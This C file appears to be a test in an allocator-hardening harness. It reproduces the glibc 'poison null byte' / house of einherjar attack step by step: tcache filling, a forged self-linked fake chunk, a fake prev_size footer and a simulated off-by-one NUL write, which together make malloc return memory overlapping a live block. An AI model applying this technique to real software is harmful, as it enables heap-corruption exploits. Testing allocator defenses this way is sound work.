/* Off-by-one NUL byte ("poison null byte" / house of einherjar): a string copy writes its
 * terminating zero one byte past block a, into the low byte of the next chunk's size word,
 * clearing PREV_INUSE. The attacker also forged, inside a, a free chunk (links pointing at
 * itself, so the unlink checks pass) and the prev_size footer that leads back to it. Freeing
 * b then consolidates backwards over the still-live a, and the next large request returns
 * memory that overlaps a.
 *
 * Sizes: b's chunk is a multiple of 256 so the NUL byte changes only PREV_INUSE. glibc
 * keeps 7 freed chunks of a size in its tcache without consolidating: those are filled
 * first so b's free reaches the arena. */
#include "attack.h"

#define TCACHE_FILL 7

int main(int argc, char **argv)
{
    enum tier tier = attack_tier(argc, argv);
    size_t a_request = attack_request(tier);
    size_t b_request = tier == TIER_SMALL ? 0xf8 : MEDIUM_REQUEST; /* chunks 0x100, 0x4000 */

    void *fill[TCACHE_FILL];
    for (int i = 0; i < TCACHE_FILL; i++)
        fill[i] = malloc(b_request);
    char *a = malloc(a_request);
    char *b = malloc(b_request);
    void *barrier = malloc(a_request); /* keeps b away from the top chunk */
    for (int i = 0; i < TCACHE_FILL; i++)
        free(fill[i]);

    size_t usable = malloc_usable_size(a);
    /* The fake free chunk starts at a itself and reaches b's chunk header. */
    size_t fake_size = usable - GLIBC_SIZE_WORD;
    poke(a, 0, 0);                          /* prev_size */
    poke(a, 8, fake_size);                  /* size */
    poke(a, 16, (uint64_t)(uintptr_t)a);    /* fd -> itself */
    poke(a, 24, (uint64_t)(uintptr_t)a);    /* bk -> itself */
    poke(a, 32, 0);                         /* fd_nextsize, bk_nextsize: not in a large bin */
    poke(a, 40, 0);
    poke(a, (ptrdiff_t)usable - 8, fake_size); /* b's prev_size footer */
    poke_byte(a, (ptrdiff_t)usable, 0);     /* the off-by-one: strcpy's terminating NUL */

    free(b);
    size_t big = usable + b_request - 3 * GLIBC_SIZE_WORD;
    char *c = malloc(big);
    if (overlaps(c, big, a, usable))
        attack_succeeded("malloc(%zu) returned %p, overlapping the live block %p", big, (void *)c, (void *)a);
    free(c);
    free(barrier);
    free(a);
    attack_failed("the NUL byte did not make freed memory overlap a live block");
}
